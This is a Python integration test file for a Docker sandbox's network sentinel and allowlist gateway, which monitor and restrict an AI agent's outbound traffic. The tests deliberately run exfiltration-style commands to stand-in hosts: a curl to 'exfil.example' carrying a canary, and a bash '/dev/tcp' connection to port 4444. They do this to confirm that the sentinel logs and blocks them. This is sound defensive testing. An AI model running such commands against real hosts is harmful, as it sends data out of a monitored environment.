"""The Docker backend's network sentinel and allowlist gateway against the real daemon.

What a user relies on: every lookup, request and connection attempt of the agent is
recorded (and drained once), the sentinel sidecar is out of the agent's reach and
locked down, traffic to the task's services is not mistaken for an escape attempt,
``network: allowlist`` lets through the listed hosts only, and nothing is left behind.

Every test runs under a unique run id; the ``run_id`` fixture asserts that nothing
labelled with it (container, network, volume) survives the test. Traffic goes only to
our own containers or to addresses that end at the sentinel (documentation ranges).
"""

from __future__ import annotations

import asyncio
import os
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from hazmat.errors import SandboxStartError
from hazmat.sandbox.base import SandboxSpec, ServiceSpec
from hazmat.sandbox.docker.network import EGRESS_ENV, SENTINEL_CAPS, SENTINEL_ENV

pytestmark = [pytest.mark.docker, pytest.mark.anyio, pytest.mark.timeout(120)]

UDP_SEND = (
    "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
    ".sendto(b'ping', ('192.0.2.5', 9999))"
)


def leftovers(label: str) -> dict[str, list[str]]:
    """Containers, networks and volumes carrying ``label`` (``key=value``)."""
    import docker

    client = docker.from_env()
    try:
        flt = {"label": [label]}
        return {
            "containers": [c.name for c in client.containers.list(all=True, filters=flt)],
            "networks": [n.name for n in client.networks.list(filters=flt)],
            "volumes": [v.name for v in client.volumes.list(filters=flt)],
        }
    finally:
        client.close()


NOTHING: dict[str, list[str]] = {"containers": [], "networks": [], "volumes": []}


@pytest.fixture
def run_id(sandbox_image: str) -> Iterator[str]:
    """A unique run id; after the test nothing labelled with it may remain."""
    rid = f"test-{uuid.uuid4().hex[:10]}"
    yield rid
    left = leftovers(f"hazmat.run={rid}")
    from hazmat.sandbox.docker.ledger import cleanup

    cleanup(rid)
    assert left == NOTHING


@pytest.fixture(params=["host", "sidecar"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Where the sentinel runs: a host process in the box's namespace (the default as
    root with a local daemon) or the sidecar container (the fallback)."""
    if request.param == "host" and os.geteuid() != 0:
        pytest.skip("a host-process sentinel needs root on the daemon's host")
    monkeypatch.setenv(SENTINEL_ENV, request.param)
    return str(request.param)


def make(spec: SandboxSpec, run_id: str) -> Any:
    from hazmat.sandbox.docker import DockerSandbox

    return DockerSandbox(spec, run_id=run_id, episode_id=uuid.uuid4().hex[:8])


def of_type(events: list[dict[str, Any]], kind: str, **match: Any) -> list[dict[str, Any]]:
    """The events of type ``kind`` whose fields equal ``match``."""
    return [
        e for e in events if e.get("type") == kind and all(e.get(k) == v for k, v in match.items())
    ]


async def events_until(sb: Any, want: Any, seconds: float = 5.0) -> list[dict[str, Any]]:
    """Drain ``sb``'s network events until ``want(all so far)`` holds or time runs out."""
    seen: list[dict[str, Any]] = []
    deadline = time.monotonic() + seconds
    while True:
        seen += await sb.network_events() or []
        if want(seen) or time.monotonic() > deadline:
            return seen
        await asyncio.sleep(0.2)


def sandbox_container(sb: Any, role: str) -> Any:
    """The one container of ``sb`` with label ``hazmat.role=role`` (docker SDK object)."""
    import docker

    client = docker.from_env()
    found = client.containers.list(
        all=True, filters={"label": [f"hazmat.sandbox={sb.sandbox_id}", f"hazmat.role={role}"]}
    )
    assert len(found) == 1, [c.name for c in found]
    return found[0]


def caps(names: list[str] | None) -> set[str]:
    """Capability names without the ``CAP_`` prefix newer daemons add."""
    return {n.upper().removeprefix("CAP_") for n in names or []}


# 1. what the agent tries is recorded, once ------------------------------------


async def test_default_sandbox_records_lookups_requests_and_connections(
    run_id: str, mode: str
) -> None:
    async with make(SandboxSpec(), run_id) as sb:
        assert sb.info()["network"] == "none"
        assert sb.info()["sentinel"]["mode"] == mode
        r = await sb.exec(["getent", "hosts", "evil.example"])
        assert r.exit_code == 0, r.stderr_text
        sink = r.stdout_text.split()[0]
        r = await sb.exec(["curl", "-s", "-m", "3", "http://exfil.example/?q=CANARY123"])
        assert "blocked by the hazmat network sentinel" in r.stdout_text, r.stderr_text
        r = await sb.exec(["bash", "-c", "(echo x > /dev/tcp/203.0.113.9/4444)"])
        assert r.exit_code != 0  # refused: nobody listens there, but it was seen
        r = await sb.exec(["python3", "-c", UDP_SEND])
        assert r.exit_code == 0, r.stderr_text

        def complete(ev: list[dict[str, Any]]) -> bool:
            return bool(
                of_type(ev, "connection", proto="udp", remote="192.0.2.5", port=9999)
                and of_type(ev, "network", host="exfil.example")
            )

        events = await events_until(sb, complete)
        dns = of_type(events, "dns", name="evil.example")
        assert dns, events
        assert {e["answer"] for e in dns} == {"sinkhole"}
        assert sink in {e.get("address") for e in dns}
        assert ipaddress_in(sink, "198.18.0.0/15")
        http = of_type(events, "network", proto="http", host="exfil.example")
        assert len(http) == 1, events
        assert "CANARY123" in http[0]["payload"]
        assert http[0]["path"] == "/?q=CANARY123"
        assert of_type(events, "dns", name="exfil.example")
        tcp = of_type(events, "connection", proto="tcp", remote="203.0.113.9", port=4444)
        udp = of_type(events, "connection", proto="udp", remote="192.0.2.5", port=9999)
        assert len(tcp) == 1 and len(udp) == 1, events
        assert all(e["seen_by"] == "sentinel" for e in events)

        again = await sb.network_events()
        assert again is not None
        assert not of_type(again, "dns", name="evil.example"), again
        assert not of_type(again, "network", host="exfil.example"), again
        assert not of_type(again, "connection", remote="203.0.113.9"), again
        assert not of_type(again, "connection", remote="192.0.2.5"), again
        # the history for the halt snapshot keeps every event once
        assert sb.sentinel is not None
        assert len(of_type(sb.sentinel.history, "network", host="exfil.example")) == 1


def ipaddress_in(address: str, network: str) -> bool:
    import ipaddress

    return ipaddress.ip_address(address) in ipaddress.ip_network(network)


# 2. the sentinel is out of the agent's reach ---------------------------------


async def _agent_cannot_reach_the_sentinel(sb: Any) -> None:
    """What the agent sees and tries: no sentinel process, its ports taken, DNS answering."""
    for user in (None, "root"):
        r = await sb.exec(["ps", "aux"], user=user)
        assert r.exit_code == 0, r.stderr_text
        assert "supervisor.py" in r.stdout_text  # ps works and shows the box's own
        assert "sentinel" not in r.stdout_text, r.stdout_text
    # no process of the box runs it (the pattern does not match its own command line)
    r = await sb.exec(["sh", "-c", "grep -l 'sentinel[.]py' /proc/[0-9]*/cmdline"], user="root")
    assert r.stdout_text == "", r.stdout_text
    for user in (None, "root"):  # the resolver's and the sinkhole's ports are taken
        for port, kind in ((53, 2), (53, 1), (80, 1)):
            bind = f"import socket; socket.socket(2, {kind}).bind(('0.0.0.0', {port}))"
            r = await sb.exec(["python3", "-c", bind], user=user)
            assert r.exit_code != 0, (user, port, kind)
    r = await sb.exec(["getent", "hosts", "still.watched.example"])
    assert r.exit_code == 0, r.stderr_text
    events = await events_until(sb, lambda ev: of_type(ev, "dns", name="still.watched.example"))
    assert of_type(events, "dns", name="still.watched.example")


async def test_sidecar_sentinel_out_of_reach_and_locked_down(
    run_id: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(SENTINEL_ENV, "sidecar")
    sb = make(SandboxSpec(), run_id)
    async with sb:
        info = sb.info()
        assert info["sentinel"]["uid"] == 65534 and info["sentinel"]["mode"] == "sidecar"
        box = info["container"]
        sentinel = sandbox_container(sb, "sentinel")
        host = sentinel.attrs["HostConfig"]
        assert caps(host["CapDrop"]) == {"ALL"}
        assert caps(host["CapAdd"]) == set(SENTINEL_CAPS)
        assert host["NetworkMode"] == f"container:{box}"
        assert host["ReadonlyRootfs"] is True
        assert any(
            o.startswith("no-new-privileges") and not o.endswith("false")
            for o in host["SecurityOpt"] or []
        ), host["SecurityOpt"]
        assert host["PidMode"] in ("", "private")  # its own pid namespace
        # the process itself runs unprivileged, not just reports so
        top = sentinel.top(ps_args="-o pid,uid,args")
        rows = [dict(zip(top["Titles"], p, strict=True)) for p in top["Processes"]]
        mine = [p for p in rows if "sentinel.py" in p.get("COMMAND", p.get("ARGS", ""))]
        assert mine and {p["UID"] for p in mine} == {"65534"}, rows
        await _agent_cannot_reach_the_sentinel(sb)
    assert leftovers(f"hazmat.sandbox={sb.sandbox_id}") == NOTHING


async def test_host_sentinel_out_of_reach_and_locked_down(
    run_id: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The host-process sentinel: in the box's network namespace and no other of its
    namespaces, unprivileged (uid 65534, no capabilities, no new privileges), no
    sidecar container; gone with the sandbox."""
    if os.geteuid() != 0:
        pytest.skip("a host-process sentinel needs root on the daemon's host")
    monkeypatch.setenv(SENTINEL_ENV, "host")
    sb = make(SandboxSpec(), run_id)
    async with sb:
        info = sb.info()
        assert info["sentinel"]["mode"] == "host" and info["sentinel"]["uid"] == 65534
        pid = info["sentinel"]["pid"]
        import docker

        box = docker.from_env().containers.get(info["container"])
        box_pid = box.attrs["State"]["Pid"]
        for ns, same in (("net", True), ("pid", False), ("mnt", False), ("ipc", False)):
            mine = os.readlink(f"/proc/{pid}/ns/{ns}")
            assert (mine == os.readlink(f"/proc/{box_pid}/ns/{ns}")) is same, ns
        proc = Path(f"/proc/{pid}")
        status = dict(line.split(":", 1) for line in (proc / "status").read_text().splitlines())
        assert status["Uid"].split() == ["65534"] * 4 and status["Gid"].split() == ["65534"] * 4
        assert int(status["CapEff"], 16) == int(status["CapPrm"], 16) == 0
        assert int(status["CapAmb"], 16) == 0 and status["NoNewPrivs"].strip() == "1"
        assert status["Groups"].strip() == ""
        assert "sentinel.py" in (proc / "cmdline").read_text()
        import docker as dk

        sidecars = dk.from_env().containers.list(
            all=True, filters={"label": [f"hazmat.sandbox={sb.sandbox_id}", "hazmat.role=sentinel"]}
        )
        assert sidecars == []
        await _agent_cannot_reach_the_sentinel(sb)
    assert not proc.exists() or (proc / "stat").read_text().split()[2] == "Z"
    assert leftovers(f"hazmat.sandbox={sb.sandbox_id}") == NOTHING


# 3. the task's services are not escape attempts ------------------------------


async def test_internal_service_traffic_is_not_a_connection_event(run_id: str) -> None:
    http = ["python3", "-m", "http.server", "8000", "--directory", "/srv"]
    check = "python3 -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:8000/')\""
    spec = SandboxSpec(
        network="internal",
        services={
            "web": ServiceSpec(
                command=http, files={"/srv/index.html": "hello from web"}, healthcheck=check
            )
        },
    )
    async with make(spec, run_id) as sb:
        import docker

        web = docker.from_env().containers.get(sb.info()["services"]["web"])
        web_ip = web.attrs["NetworkSettings"]["Networks"][sb.info()["network"]]["IPAddress"]
        assert web_ip
        r = await sb.exec(
            ["curl", "-sS", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", "http://web:8000/"]
        )
        assert r.stdout_text == "200", r.stderr_text
        r = await sb.exec(["curl", "-sS", "-m", "5", f"http://{web_ip}:8000/"])
        assert r.stdout_text == "hello from web", r.stderr_text
        r = await sb.exec(["bash", "-c", "(echo x > /dev/tcp/198.51.100.1/443)"])

        events = await events_until(
            sb, lambda ev: of_type(ev, "connection", proto="tcp", remote="198.51.100.1", port=443)
        )
        assert of_type(events, "connection", proto="tcp", remote="198.51.100.1", port=443), events
        assert not of_type(events, "connection", remote=web_ip), events
        assert not [e for e in events if e.get("host") == "web"], events
        assert not of_type(events, "dns", name="web"), events  # Docker's resolver answered


# 4. network: allowlist --------------------------------------------------------


@dataclass
class Outside:
    """A web server on a non-internal network, reachable as ``allowed.test``."""

    network: str
    container: Any
    address: str
    marker: str


@pytest.fixture
async def outside(run_id: str) -> AsyncIterator[Outside]:
    """``allowed.test``: a labelled egress network with one web server on it; removed after."""
    import docker

    client = docker.from_env()
    tag = uuid.uuid4().hex[:10]
    labels = {
        "hazmat": "1",
        "hazmat.run": run_id,
        "hazmat.episode": "outside",
        "hazmat.test": f"docker-net-{tag}",
    }
    marker = f"MARKER-{tag}.txt"
    network = client.networks.create(
        f"hazmat-test-egress-{tag}", driver="bridge", internal=False, labels=labels
    )
    container = None
    try:
        container = client.containers.create(
            "hazmat-sandbox:latest",
            user="0",
            command=[
                "sh",
                "-c",
                f"mkdir -p /tmp/www && touch /tmp/www/{marker} && "
                "cd /tmp/www && exec python3 -m http.server 80",
            ],
            labels=labels,
            name=f"hazmat-test-allowed-{tag}",
            network=network.name,
            networking_config={
                network.name: client.api.create_endpoint_config(aliases=["allowed.test"])
            },
        )
        container.start()
        deadline = time.monotonic() + 30
        probe = [
            "python3",
            "-c",
            "import urllib.request as u; u.urlopen('http://127.0.0.1:80/', timeout=2)",
        ]
        while True:
            code, _out = await asyncio.to_thread(container.exec_run, probe)
            if code == 0:
                break
            assert time.monotonic() < deadline, container.logs().decode(errors="replace")
            await asyncio.sleep(0.2)
        container.reload()
        address = container.attrs["NetworkSettings"]["Networks"][network.name]["IPAddress"]
        yield Outside(network.name, container, address, marker)
    finally:
        if container is not None:
            container.remove(force=True)
        network.remove()
        client.close()


async def test_allowlist_lets_through_listed_hosts_only(
    run_id: str, outside: Outside, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(EGRESS_ENV, outside.network)
    spec = SandboxSpec(network="allowlist", allow_hosts=("allowed.test",))
    sb = make(spec, run_id)
    async with sb:
        gateway_ip = sb.info()["gateway"]
        assert gateway_ip
        gateway = sandbox_container(sb, "gateway")
        gateway_nets = gateway.attrs["NetworkSettings"]["Networks"]
        assert set(gateway_nets) == {sb.info()["network"], outside.network}
        gateway_out = gateway_nets[outside.network]["IPAddress"]
        # the box itself is only on the internal network
        box_nets = sandbox_container(sb, "box").attrs["NetworkSettings"]["Networks"]
        assert set(box_nets) == {sb.info()["network"]}

        status = ["-s", "-m", "10", "-w", "\n%{http_code}"]
        r = await sb.exec(["curl", *status, "http://allowed.test/"])
        body, _, code = r.stdout_text.rpartition("\n")
        assert code == "200", (r.stdout_text, r.stderr_text)
        assert outside.marker in body

        r = await sb.exec(["curl", *status, "http://blocked.test/"])
        body, _, code = r.stdout_text.rpartition("\n")
        assert code == "403", (r.stdout_text, r.stderr_text)
        assert "blocked by the hazmat network sentinel" in body

        r = await sb.exec(["curl", *status, f"http://{outside.address}/"])
        body, _, code = r.stdout_text.rpartition("\n")
        assert outside.marker not in body  # did not reach the server
        assert code != "200", r.stdout_text

        def complete(ev: list[dict[str, Any]]) -> bool:
            return bool(
                of_type(ev, "network", host="allowed.test", allowed=True)
                and of_type(ev, "network", host="blocked.test")
                and of_type(ev, "connection", remote=outside.address)
            )

        events = await events_until(sb, complete)
        dns = of_type(events, "dns", name="allowed.test")
        assert dns and {e["answer"] for e in dns} == {"allowed"}, events
        passed = of_type(events, "network", host="allowed.test", allowed=True)
        assert len(passed) == 1 and passed[0]["proto"] == "http", events
        assert passed[0]["remote"] == gateway_ip
        assert of_type(events, "dns", name="blocked.test", answer="sinkhole"), events
        sunk = of_type(events, "network", host="blocked.test")
        assert len(sunk) == 1 and "allowed" not in sunk[0], events  # the box's sinkhole
        assert ipaddress_in(sunk[0]["remote"], "198.18.0.0/15")
        assert of_type(events, "connection", proto="tcp", remote=outside.address, port=80), events
        assert not of_type(events, "network", allowed=False), events

        # the server saw exactly one request from outside itself: the gateway's
        logs = outside.container.logs().decode(errors="replace")
        clients = [line.split()[0] for line in logs.splitlines() if '"GET ' in line]
        assert [c for c in clients if c != "127.0.0.1"] == [gateway_out], logs
    assert leftovers(f"hazmat.sandbox={sb.sandbox_id}") == NOTHING


# 5. allowlist needs the sentinel ----------------------------------------------


async def test_allowlist_without_sentinel_is_refused(run_id: str) -> None:
    spec = SandboxSpec(network="allowlist", allow_hosts=("allowed.test",), sentinel=False)
    sb = make(spec, run_id)
    with pytest.raises(SandboxStartError, match="sentinel"):
        async with sb:
            pytest.fail("an allowlist sandbox without a sentinel started")
    assert sb.sentinel is None
    assert leftovers(f"hazmat.sandbox={sb.sandbox_id}") == NOTHING
    assert leftovers(f"hazmat.run={run_id}") == NOTHING

    bare = make(spec, run_id)  # start() alone, without the context manager
    with pytest.raises(SandboxStartError, match="sentinel"):
        await bare.start()
    assert leftovers(f"hazmat.sandbox={bare.sandbox_id}") == NOTHING
    await bare.stop()
